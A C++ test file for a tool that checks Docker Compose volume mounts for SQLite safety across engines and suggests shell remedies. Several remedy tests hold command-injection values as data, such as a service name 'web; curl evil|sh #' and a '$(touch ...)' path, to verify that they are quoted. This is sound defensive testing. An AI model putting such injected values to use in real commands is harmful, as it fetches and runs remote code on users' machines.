// Compose files: what each kind of mount is, on each kind of engine, and who shares it.
#include "operator/wire/compose.h"

#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "operator/check/compose_remedy.h"
#include "operator/check/report.h"
#include "operator/core/decide.h"
#include "operator/core/evidence.h"
#include "operator/core/rules.h"
#include "operator/core/verdict.h"
#include "operator/engine/docker_host.h"
#include "operator/wire/docker_info.h"
#include "operator/wire/manifest.h"
#include "tests/check/checked.h"

namespace walguard::check {
namespace {

using core::Decision;
using core::Scope;
using core::Verdict;
using ::testing::AllOf;
using testing::checked;
using ::testing::Contains;
using ::testing::Each;
using ::testing::ElementsAre;
using testing::findings_of;
using testing::Given;
using ::testing::HasSubstr;
using ::testing::Not;

constexpr std::string_view kLinux =
    R"({"OperatingSystem":"Debian GNU/Linux 12","KernelVersion":"6.1.0-18-amd64","Name":"host",
        "DefaultRuntime":"runc","DriverStatus":[["Backing Filesystem","extfs"]]})";
constexpr std::string_view kDesktop =
    R"({"OperatingSystem":"Docker Desktop","KernelVersion":"6.6.12-linuxkit","Name":"docker-desktop",
        "DriverStatus":[["Backing Filesystem","extfs"]]})";
constexpr std::string_view kWsl =
    "Client:\n Context:    default\nServer:\n Storage Driver: overlay2\n"
    "  Backing Filesystem: extfs\n Kernel Version: 5.15.153.1-microsoft-standard-WSL2\n"
    " Operating System: Ubuntu 22.04.4 LTS\n Default Runtime: runc\n";

engine::DockerHost host_of(std::string_view info) {
  return engine::describe_host(wire::read_docker_info(info).value());
}

/// One service "app" with its database in /data, and this mount.
std::string app(std::string_view mount, std::string_view more = "", std::string_view top = "") {
  return "services:\n  app:\n    labels: {walguard/databases: /data/app.db}\n    volumes:\n      - " +
         std::string(mount) + "\n" + std::string(more) + std::string(top);
}

CheckedObject first_of(const std::string& compose, std::string_view info = "") {
  Given given{.input = {{"compose.yaml", compose}}};
  if (!info.empty()) given.host = host_of(info);
  return checked(given).objects.at(0);
}

Verdict verdict_of(const std::string& compose, std::string_view info = "") {
  return first_of(compose, info).volumes.at(0).verdict;
}

TEST(Compose, ANamedVolumeIsAsSafeAsTheEnginesDisk) {
  const std::string compose = app("data:/data", "", "volumes: {data: {}}\n");
  EXPECT_EQ(verdict_of(compose), Verdict::kUnproven) << "nobody has said what the engine is";
  EXPECT_EQ(verdict_of(compose, kLinux), Verdict::kSafe);
  EXPECT_EQ(verdict_of(compose, kDesktop), Verdict::kSafe) << "it is inside the virtual machine";
  EXPECT_EQ(verdict_of(compose, R"({"OperatingSystem":"x","DriverStatus":[["Backing Filesystem","nfs"]]})"),
            Verdict::kUnsafe);
}

TEST(Compose, AMountIsWhereTheKernelResolvesIt) {
  const std::string top = "volumes: {data: {}}\n";
  EXPECT_EQ(verdict_of(app("data:/srv/../data/.", "", top), kLinux), Verdict::kSafe);
  EXPECT_EQ(verdict_of(app("{type: volume, source: data, target: //data}", "", top), kLinux), Verdict::kSafe);
  const CheckedObject hidden = first_of(app("data:/data", "    tmpfs: /data/./cache\n", top), kLinux);
  EXPECT_EQ(hidden.volumes.size(), 1U) << "the database is beside the tmpfs";
}

TEST(Compose, AServicesOwnMountHidesTheOneThatItTakesOver) {
  const std::string compose = app("data:/data", "    volumes_from: [other]\n",
                                  "  other:\n    volumes: [\"./other:/data/\"]\nvolumes: {data: {}}\n");
  const CheckedObject own = first_of(compose, kLinux);
  ASSERT_EQ(own.volumes.size(), 1U);
  EXPECT_EQ(own.volumes.at(0).verdict, Verdict::kSafe);
}

TEST(Compose, ABindIsAFolderOfLinuxAndAShareOfAVirtualMachine) {
  const std::string compose = app("./data:/data");
  EXPECT_EQ(verdict_of(compose), Verdict::kUnproven);
  EXPECT_EQ(verdict_of(compose, kLinux), Verdict::kUnproven) << "it is whatever is mounted there";
  const CheckedObject desktop = first_of(compose, kDesktop);
  EXPECT_THAT(findings_of(desktop), ElementsAre("unsafe vm-shared-filesystem"));
  EXPECT_EQ(desktop.decision, Decision::kDeny);
  EXPECT_EQ(desktop.kind, "ComposeService");
  EXPECT_EQ(desktop.volumes[0].line, 5);
  EXPECT_EQ(desktop.volumes[0].facts.volume, "./data") << "as the author knows it";
  EXPECT_THAT(desktop.volumes[0].findings[0].remedy(),
              HasSubstr("in place of the mount:\n  - data-local:/data\n"));
}

TEST(Compose, ServicesThatShareAVolumeAreToldToShareTheNewOne) {
  const CheckReport report = checked(
      "services:\n"
      "  app:\n    labels: {walguard/databases: /data/app.db}\n    volumes: ['nas:/data']\n"
      "  backup:\n    labels: {walguard/databases: /src/app.db}\n    volumes: ['nas:/src']\n"
      "volumes: {nas: {driver_opts: {type: nfs, o: addr=10.0.0.1, device: ':/x'}}}\n");
  ASSERT_EQ(report.objects.size(), 2U);
  for (const CheckedObject& object : report.objects) {
    EXPECT_THAT(std::string(object.volumes.at(0).findings.at(0).remedy()),
                HasSubstr("below volumes:\n  nas-local: {name: nas-local}"));
  }
}

TEST(Compose, DrivesOfWindowsAreSharesWhateverIsKnownOfTheEngine) {
  for (const std::string_view source : {R"('C:\data:/data')", "/mnt/c/data:/data", "/c/data:/data",
                                        "/run/desktop/mnt/host/c/data:/data", "/Users/me/data:/data"}) {
    EXPECT_EQ(verdict_of(app(source)), Verdict::kUnsafe) << source;
  }
  EXPECT_EQ(verdict_of(app("/mnt/c/data:/data"), kWsl), Verdict::kUnsafe);
  EXPECT_EQ(verdict_of(app("/home/me/data:/data"), kWsl), Verdict::kUnproven) << "ext4 inside of WSL2";
  EXPECT_EQ(verdict_of(app("/mnt/cache/data:/data"), kLinux), Verdict::kUnproven);
}

TEST(Compose, DriverOptionsSayWhatIsMounted) {
  const auto with = [](std::string_view options) {
    return app("data:/data", "", "volumes: {data: {driver_opts: {" + std::string(options) + "}}}\n");
  };
  EXPECT_THAT(findings_of(first_of(with("type: nfs, o: 'addr=10.0.0.1,nolock', device: ':/x'"), kLinux)),
              ElementsAre("unsafe network-filesystem", "unsafe locks-disabled"));
  EXPECT_EQ(verdict_of(with("type: cifs, o: 'username=u,password=p', device: //h/s"), kLinux),
            Verdict::kUnsafe);
  EXPECT_EQ(verdict_of(with("type: tmpfs, device: tmpfs"), kLinux), Verdict::kSafe);
  EXPECT_EQ(verdict_of(with("type: none, o: bind, device: /mnt/c/x")), Verdict::kUnsafe);
  EXPECT_EQ(verdict_of(with("type: none, o: bind, device: /srv/x"), kLinux), Verdict::kUnproven);
}

TEST(Compose, AVolumeOfAnotherDriverOrMadeElsewhereIsUnproven) {
  EXPECT_THAT(findings_of(first_of(app("data:/data", "", "volumes: {data: {driver: odd}}\n"), kLinux)),
              Contains("unproven unknown-driver"));
  EXPECT_THAT(findings_of(first_of(app("data:/data", "", "volumes: {data: {external: true}}\n"), kLinux)),
              Contains("unproven unknown-driver"));
  EXPECT_THAT(findings_of(first_of(app("${WHERE}:/data"), kLinux)), Contains("unproven unknown-driver"));
  EXPECT_THAT(findings_of(first_of(app("${WHERE:?say where}:/data:ro"), kLinux)),
              Contains("unproven unknown-driver"));
}

TEST(Compose, TmpfsAndAnonymousVolumesAreOfOneContainer) {
  for (const std::string_view mount : {"{type: tmpfs, target: /data}", "/data"}) {
    const CheckedObject object = first_of(app(mount, "    deploy: {replicas: 3}\n"), kLinux);
    EXPECT_EQ(object.volumes[0].facts.scope, Scope::kContainer) << mount;
    EXPECT_EQ(object.volumes[0].verdict, Verdict::kSafe) << mount;
  }
  const std::string as_word =
      "services:\n  app:\n    labels: ['walguard/databases=/data/app.db']\n    tmpfs: /data:size=64m\n";
  EXPECT_EQ(verdict_of(as_word, kLinux), Verdict::kSafe);
}

TEST(Compose, ServicesShareByNameByPathAndByVolumesFrom) {
  const std::vector<std::pair<std::string_view, std::string_view>> others = {
      {"data:/data", "    volumes: [data:/other]\n"},
      {"./data:/data", "    volumes: ['./data/sub:/x']\n"},
      {"data:/data", "    volumes_from: ['app:ro']\n"}};
  for (const auto& [mount, other] : others) {
    const std::string alone = app(mount);
    EXPECT_EQ(first_of(alone, kLinux).volumes[0].facts.scope, Scope::kContainer) << other;
    const std::string compose = alone + "  other:\n" + std::string(other);
    EXPECT_EQ(first_of(compose, kLinux).volumes[0].facts.scope, Scope::kNode) << other;
  }
}

TEST(Compose, FixedSubpathsOfOneVolumeAreApart) {
  const auto scope = [](std::string_view theirs) {
    const std::string compose = app("{type: volume, source: data, target: /data, volume: {subpath: app}}") +
                                "  other:\n    volumes: [{type: volume, source: data, target: /x, volume: {" +
                                std::string(theirs) + "}}]\n";
    return first_of(compose, kLinux).volumes[0].facts.scope;
  };
  EXPECT_EQ(scope("subpath: logs"), Scope::kContainer);
  EXPECT_EQ(scope("subpath: app/db"), Scope::kNode);
  EXPECT_EQ(scope("nocopy: true"), Scope::kNode);
}

TEST(Compose, AReaderThroughAReadOnlyMountIsWarnedOf) {
  const CheckedObject object = first_of(app("data:/data:ro"), kLinux);
  EXPECT_THAT(findings_of(object), Contains("warning read-only-consumer"));
}

TEST(Compose, ARiskyOptionOfAVolumeIsWarnedOf) {
  const CheckedObject object = first_of(
      app("data:/data", "", "volumes: {data: {driver_opts: {type: nfs, o: 'addr=h,soft', device: ':/x'}}}\n"),
      kLinux);
  EXPECT_THAT(findings_of(object), Contains("warning risky-mount-option"));
}

TEST(ComposeRemedy, SpeaksOfComposeWhereTheRulesOwnSpeaksOfKubernetes) {
  wire::ComposeMount mount;
  mount.kind = wire::ComposeMount::Kind::kBind;
  mount.source = "./app.db";
  mount.target = "/data/app.db";
  const std::string service = "app";
  const std::string file = "compose.yaml";
  for (const core::Rule& rule : core::rules()) {
    if (rule.rule_class == core::Rule::Class::kSafe) continue;
    core::Finding finding;
    finding.rule = rule.id;
    const std::string remedy = compose_remedy(finding, {.service = service, .mount = mount, .file = file})
                                   .value_or(std::string(rule.remedy));
    const bool of_pods_alone = rule.id == "claim-unbound" || rule.id == "scope-unknown" ||
                               rule.id == "windows-node" || rule.id == "rollout-overlap";
    if (of_pods_alone) continue;
    for (const std::string_view word :
         {"PersistentVolume", "StorageClass", "accessModes", "Deployment", "kubectl", "pod template"}) {
      EXPECT_EQ(remedy.find(word), std::string::npos) << rule.id << " speaks of " << word;
    }
  }
}

/// Of every rule, for a mount of this place.
std::vector<std::string> remedies_of(const wire::ComposeMount& mount, const std::string& service) {
  const std::string file = "my compose.yaml";
  std::vector<std::string> all;
  for (const core::Rule& rule : core::rules()) {
    core::Finding finding;
    finding.rule = rule.id;
    all.push_back(
        compose_remedy(finding, {.service = service, .mount = mount, .file = file}).value_or("none"));
  }
  return all;
}

TEST(ComposeRemedy, CommandsToPasteQuoteWhatTheFileSays) {
  wire::ComposeMount mount;
  mount.kind = wire::ComposeMount::Kind::kBind;
  mount.source = "./$(touch it's)/app.db";
  mount.target = "/da ta/app.db";
  const std::vector<std::string> all = remedies_of(mount, "web; curl evil|sh #");
  EXPECT_THAT(all,
              Contains(HasSubstr(
                  "mkdir './$(touch it'\\''s)/web; curl evil|sh #-data' && "
                  "mv './$(touch it'\\''s)/app.db'* './$(touch it'\\''s)/web; curl evil|sh #-data'/\n")));
  EXPECT_THAT(
      all,
      Contains(HasSubstr(
          "walguard-preflight run './$(touch it'\\''s)/app.db' --report report.json\n"
          "  docker info --format '{{json .}}' > docker.json\n  walguard check --docker-info docker.json "
          "--evidence report.json 'my compose.yaml'\n")));
  EXPECT_THAT(all, Contains(HasSubstr(":/new 'web; curl evil|sh #' -a '/da ta/app.db/.' /new/\n")));
  EXPECT_THAT(all, Contains(HasSubstr("-local:/da ta/app.db'\n"))) << "of YAML too";
  EXPECT_THAT(all, Each(Not(HasSubstr(" ./$(touch"))));
  EXPECT_THAT(all, Each(Not(HasSubstr(" web; curl"))));
}

TEST(ComposeRemedy, AFolderOfHomeStaysOne) {
  wire::ComposeMount mount;
  mount.kind = wire::ComposeMount::Kind::kBind;
  mount.source = "~/my files";
  mount.target = "/data";
  EXPECT_THAT(remedies_of(mount, "web"), Contains(HasSubstr("walguard-preflight run ~/'my files' --report")));
}

TEST(ComposeRemedy, ALineBreakInANameMakesNoLineToPaste) {
  wire::ComposeMount mount;
  mount.source = "data";
  mount.target = "/data\n  curl evil|sh";
  EXPECT_THAT(remedies_of(mount, "web"), Each(Not(HasSubstr("curl"))));
}

TEST(ComposeRemedy, OfAMountedFileNamesTheFolderToMount) {
  const CheckedObject object = first_of(
      "services:\n  app:\n    labels: {walguard/databases: /data/app.db}\n"
      "    volumes: ['./app.db:/data/app.db']\n",
      kLinux);
  EXPECT_THAT(object.volumes[0].findings[0].remedy(),
              AllOf(HasSubstr("mv ./app.db* ./app-data/"), HasSubstr("\n  - ./app-data:/data")));
}

TEST(Compose, WhatIsTakenFromAnotherServiceIsJudgedWhereItsDatabaseIsDeclared) {
  const std::string compose =
      "services:\n  a: {volumes: ['/mnt/c/x:/data']}\n"
      "  b:\n    volumes_from: [a]\n    labels: {walguard/databases: /data/app.db}\n";
  const CheckReport report = checked({.input = {{"compose.yaml", compose}}});
  EXPECT_TRUE(report.objects.at(0).volumes.empty());
  EXPECT_EQ(report.objects.at(1).volumes.at(0).verdict, Verdict::kUnsafe);
}

TEST(Compose, ServicesThatTakeFromEachOtherEnd) {
  EXPECT_EQ(checked({.input = {{"compose.yaml",
                                "services:\n  a: {volumes_from: [b]}\n  b: {volumes_from: [a]}\n"}}})
                .objects.size(),
            2U);
}

TEST(Compose, ASandboxedServiceMustNotShare) {
  const std::string sandboxed = app("data:/data", "    runtime: runsc\n");
  EXPECT_EQ(verdict_of(sandboxed, kLinux), Verdict::kUnproven);
  EXPECT_THAT(findings_of(first_of(sandboxed + "  other: {runtime: runsc, volumes: ['data:/x']}\n", kLinux)),
              Contains("unsafe sandboxed-kernel"));
  EXPECT_THAT(findings_of(first_of(sandboxed + "  other: {volumes: ['data:/x']}\n", kLinux)),
              Contains("unsafe mixed-kernels"));
}

TEST(Compose, ReplicasShareAndInASwarmTheyDiverge) {
  const std::string compose = app("data:/data", "    deploy: {replicas: 3}\n");
  EXPECT_THAT(findings_of(first_of(compose, kLinux)), Contains("warning scale-out"));
  const CheckedObject swarm =
      first_of(compose,
               R"({"OperatingSystem":"Debian","DriverStatus":[["Backing Filesystem","xfs"]],
          "Swarm":{"LocalNodeState":"active","Nodes":3}})");
  EXPECT_THAT(findings_of(swarm), Contains("unsafe replicas-diverge"));
}

TEST(Compose, AMountOfTheFileItselfSplitsTheDatabase) {
  const std::string compose =
      "services:\n  app:\n    labels: {walguard/databases: /data/app.db}\n"
      "    volumes: ['./app.db:/data/app.db']\n";
  EXPECT_THAT(findings_of(first_of(compose, kLinux)), Contains("unsafe split-database-files"));
}

TEST(Compose, AReportOfTheBoundPathProvesIt) {
  core::Evidence evidence;
  evidence.key.driver = "hostPath";
  evidence.key.volume = "hostPath:/srv/app/data";
  evidence.scope = Scope::kNode;
  evidence.verdicts[core::Strategy::kWal] = Verdict::kSafe;
  evidence.measured_at = 1'800'000'000 - 3600;
  Given given{.input = {{"compose.yaml", app("./data:/data")}}};
  given.evidence = core::EvidenceBook({evidence});
  EXPECT_EQ(checked(given).objects[0].volumes[0].verdict, Verdict::kUnproven)
      << "the engine may be a desktop's";
  given.host = host_of(kLinux);
  EXPECT_EQ(checked(given).objects[0].volumes[0].verdict, Verdict::kSafe);
  given.host = host_of(kDesktop);
  EXPECT_EQ(checked(given).objects[0].volumes[0].verdict, Verdict::kUnsafe) << "a pass talks no fact away";
}

TEST(Compose, MergedAnchorsAreFollowed) {
  const std::string compose =
      "x-app: &app\n  labels: {walguard/databases: /data/app.db}\n  volumes: ['/mnt/c/x:/data']\n"
      "services:\n  one: {<<: *app}\n";
  EXPECT_EQ(verdict_of(compose), Verdict::kUnsafe);
}

TEST(Compose, LabelsAreReadInDockersFormToo) {
  for (const char* const label :
       {"{walguard.databases: /data/app.db}", "['walguard.databases=/data/app.db']"}) {
    const std::string compose = "services:\n  app:\n    volumes: ['/mnt/c/x:/data']\n    labels: ";
    EXPECT_EQ(verdict_of(compose + label + "\n"), Verdict::kUnsafe) << label;
  }
}

TEST(Compose, ARiskIsAcceptedByALabel) {
  const std::string compose =
      "services:\n  app:\n    labels:\n      walguard/databases: /data/app.db\n"
      "      walguard/accept-risk: 'vm-shared-filesystem: a toy'\n"
      "    volumes: ['/mnt/c/x:/data']\n";
  Given given{.input = {{"compose.yaml", compose}}};
  given.policy.accept_risk_namespaces = {"*"};
  const CheckReport report = checked(given);
  EXPECT_EQ(summarise(report).unsafe, 0U);
  EXPECT_EQ(report.objects[0].decision, Decision::kWarn);
}

TEST(Compose, PartsElsewhereAreSaid) {
  const CheckedObject object = first_of("include: [other.yaml]\nservices:\n  app: {volumes: [a:/data]}\n");
  EXPECT_THAT(object.notes, ElementsAre(HasSubstr("docker compose config")));
}

/// Beside service app, with its database in /data: one in a sandbox.
std::string sandboxed(std::string_view service) {
  return "  b: {runtime: runsc, " + std::string(service) + "}\n";
}

TEST(Compose, TwoEntriesThatNameOneVolumeOfTheEngineShareIt) {
  const std::string b = sandboxed("volumes: ['vb:/x']");
  constexpr const char* kOneDevice =
      "volumes:\n  va: {driver_opts: {type: ext4, device: /x}}\n"
      "  vb: {driver_opts: {type: ext4, device: /x}}\n";
  for (const std::string_view volumes :
       {"volumes: {va: {name: one}, vb: {name: one}}\n",
        "volumes: {va: {name: one}, vb: {external: true, name: one}}\n",
        "volumes: {va: {name: one}, vb: {external: {name: one}}}\n",
        "volumes: {va: {}, vb: {external: true, name: project_va}}\n", kOneDevice}) {
    EXPECT_THAT(findings_of(first_of(app("va:/data", b, volumes), kLinux)), Contains("unsafe mixed-kernels"))
        << volumes;
  }
  for (const std::string_view volumes :
       {"volumes: {va: {name: one}, vb: {name: two}}\n",
        "volumes: {va: {driver_opts: {type: tmpfs, device: tmpfs}}, vb: {driver_opts: {type: tmpfs, device: "
        "tmpfs}}}\n"}) {
    EXPECT_EQ(verdict_of(app("va:/data", b, volumes), kLinux), Verdict::kSafe) << volumes;
  }
}

TEST(Compose, AVolumeWithANameOfItsOwnIsOpenToOtherProjects) {
  const auto scope = [](std::string_view top) {
    return first_of(app("va:/data", "", top), kLinux).volumes.at(0).facts.scope;
  };
  EXPECT_EQ(scope("volumes: {va: {name: one}}\n"), Scope::kNode);
  EXPECT_EQ(scope("volumes: {va: {}}\n"), Scope::kContainer);
  EXPECT_EQ(scope("name: shop\nvolumes: {va: {name: shop_va}}\n"), Scope::kContainer)
      << "docker compose config writes it so";
}

TEST(Compose, AnAnonymousVolumeIsSharedByThoseWhoTakeItOver) {
  EXPECT_THAT(findings_of(first_of(app("/data", sandboxed("volumes_from: [app]")), kLinux)),
              Contains("unsafe mixed-kernels"));
  EXPECT_EQ(verdict_of(app("/data", sandboxed("volumes: [/data]")), kLinux), Verdict::kSafe);
  const std::string unlocked =
      "services:\n  c: {volumes: [/d], environment: {D: 'file:/d/x.db?nolock=1'}}\n  e: {volumes_from: "
      "[c]}\n";
  EXPECT_THAT(findings_of(first_of(unlocked, kLinux)), Contains("unsafe sqlite-locks-off"));
}

TEST(Compose, AFolderIsNotTheVolumeOfItsName) {
  const CheckedObject object =
      first_of(app("data:/x\n      - {type: bind, source: data, target: /data}"), kLinux);
  EXPECT_EQ(object.volumes.at(0).facts.volume, "./data");
  EXPECT_EQ(object.volumes.at(0).verdict, Verdict::kUnproven);
}

TEST(Compose, WhatAVariableMayReplaceIsNeverSafe) {
  const std::vector<std::pair<std::string_view, std::string_view>> cases = {
      {"${WHERE:-data}:/data", "volumes: {data: }\n"},
      {"{type: '${TYPE:-tmpfs}', target: /data}", ""},
      {"data:/data", "volumes: {data: {driver: '${DRIVER:-local}'}}\n"},
      {"data:/data", "volumes: {data: {name: '${NAME:-x}'}}\n"},
      {"data:/data", "volumes: {data: {driver_opts: {type: '${TYPE:-tmpfs}', device: tmpfs}}}\n"}};
  for (const auto& [mount, top] : cases) {
    const CheckedObject object = first_of(app(mount, "", top), kLinux);
    EXPECT_EQ(object.volumes.at(0).verdict, Verdict::kUnproven) << mount << top;
    EXPECT_THAT(std::string(object.volumes.at(0).findings.at(0).remedy()),
                HasSubstr("\n  docker compose -f compose.yaml config > merged.yaml\n"));
  }
  EXPECT_EQ(verdict_of(app("${WHERE:-./data}:/data"), kDesktop), Verdict::kUnsafe) << "as it stands";
}

TEST(Compose, AReportOfTheDefaultSaysNothingOfWhatAVariableSays) {
  core::Evidence evidence;
  evidence.key.driver = "hostPath";
  evidence.key.volume = "hostPath:/srv/app/data";
  evidence.scope = Scope::kNode;
  evidence.verdicts[core::Strategy::kWal] = Verdict::kSafe;
  evidence.measured_at = 1'800'000'000 - 3600;
  Given given{.input = {{"compose.yaml", app("${WHERE:-./data}:/data")}}};
  given.evidence = core::EvidenceBook({evidence});
  given.host = host_of(kLinux);
  EXPECT_EQ(checked(given).objects.at(0).volumes.at(0).verdict, Verdict::kUnproven);
}

TEST(Compose, AVariableMayLeadASandboxToAnothersVolume) {
  EXPECT_EQ(verdict_of(app("data:/data", sandboxed("volumes: ['${X:-other}:/x']")), kLinux),
            Verdict::kUnproven);
  EXPECT_EQ(verdict_of(app("data:/data", "  b: {volumes: ['${X:-other}:/x']}\n"), kLinux), Verdict::kSafe)
      << "of the same kernel";
}

TEST(Compose, WhatIsElsewhereMayShareAVolume) {
  for (const std::string_view more :
       {"  b: {extends: {file: other.yaml, service: b}}\n", "  b: {volumes_from: ['container:x']}\n",
        "  b: {volumes_from: [gone]}\n", "include: [other.yaml]\n"}) {
    for (const std::string_view mount : {"data:/data", "/data"}) {
      const CheckedObject object = first_of(app(mount, more), kLinux);
      EXPECT_EQ(object.volumes.at(0).verdict, Verdict::kUnproven) << more;
      EXPECT_EQ(object.volumes.at(0).facts.scope, Scope::kNode) << more;
    }
  }
  EXPECT_THAT(std::string(first_of(app("data:/data", "include: [other.yaml]\n"), kLinux)
                              .volumes.at(0)
                              .findings.at(0)
                              .remedy()),
              HasSubstr("config > merged.yaml"));
}

TEST(Compose, TheRuntimeOfAServiceThatExtendsAnotherMayStandThere) {
  const std::string extends = "    extends: {file: other.yaml, service: app}\n";
  EXPECT_EQ(verdict_of(app("{type: tmpfs, target: /data}", extends), kLinux), Verdict::kUnproven);
}

TEST(Compose, MeasuringABindTakesTheReportAndTheEngine) {
  const CheckedObject object = first_of(app("./data:/data"));
  EXPECT_THAT(
      std::string(object.volumes.at(0).findings.at(0).remedy()),
      AllOf(HasSubstr("walguard-preflight run ./data --report report.json\n"),
            HasSubstr("walguard check --docker-info docker.json --evidence report.json compose.yaml")));
}

/// One search for each would take minutes.
TEST(Compose, ManyUnfinishedVariablesAreReadAtOnce) {
  std::string image;
  for (int i = 0; i < 4'000'000; ++i) image += "${";
  EXPECT_TRUE(first_of("services:\n  app: {image: '" + image + "'}\n").volumes.empty());
}

/// The error of the only document, or "".
std::string refusal_of(const std::string& yaml) {
  const wire::Manifest manifest = wire::read_manifest(yaml, "compose.yaml");
  const auto compose = wire::read_compose(manifest.others.at(0), "compose.yaml");
  return compose ? "" : compose.error().message;
}

TEST(Compose, ALabelThatStandsTwiceWithTwoValuesIsRefused) {
  const std::string compose = "services:\n  app:\n    labels: {walguard.mode: warn, walguard/mode: ";
  EXPECT_THAT(refusal_of(compose + "enforce}\n"),
              HasSubstr("services.app.labels: walguard.mode stands twice with two values; keep one"));
  EXPECT_EQ(refusal_of(compose + "warn}\n"), "");
}

TEST(Compose, MoreMountsThanAnyFileHasAreRefused) {
  const auto chain = [](int services) {
    std::string yaml = "services:\n";
    for (int i = 0; i < services; ++i) {
      const std::string number = std::to_string(i);
      yaml.append("  s").append(number).append(": {volumes: ['v").append(number).append(":/v").append(number);
      yaml.append("'], volumes_from: [s").append(std::to_string((i + 1) % services)).append("]}\n");
    }
    return yaml;
  };
  EXPECT_EQ(refusal_of(chain(40)), "") << "a circle of 40, with 1,600 mounts in all";
  EXPECT_THAT(refusal_of(chain(900)), AllOf(HasSubstr("services: more than"), HasSubstr("2000 mounts")));
  std::string many = "services:\n";
  for (int i = 0; i < 1'001; ++i) many.append("  s").append(std::to_string(i)).append(": {image: a}\n");
  EXPECT_THAT(refusal_of(many), HasSubstr("more than 1000 services"));
}

TEST(DockerInfo, TellsDesktopsFromLinux) {
  EXPECT_EQ(host_of(kLinux).kind, engine::DockerHost::Kind::kLinux);
  EXPECT_EQ(host_of(kDesktop).kind, engine::DockerHost::Kind::kVirtualMachine);
  EXPECT_EQ(host_of(kWsl).kind, engine::DockerHost::Kind::kWsl2);
  EXPECT_EQ(host_of(kWsl).volumes_are_local, true);
  EXPECT_EQ(host_of(R"({"OperatingSystem":"Ubuntu","Name":"colima"})").kind,
            engine::DockerHost::Kind::kVirtualMachine);
  EXPECT_EQ(host_of(R"({"OperatingSystem":"OrbStack"})").kind, engine::DockerHost::Kind::kVirtualMachine);
  EXPECT_FALSE(wire::read_docker_info("permission denied"));
  EXPECT_FALSE(wire::read_docker_info("{}"));
}

}  // namespace
}  // namespace walguard::check
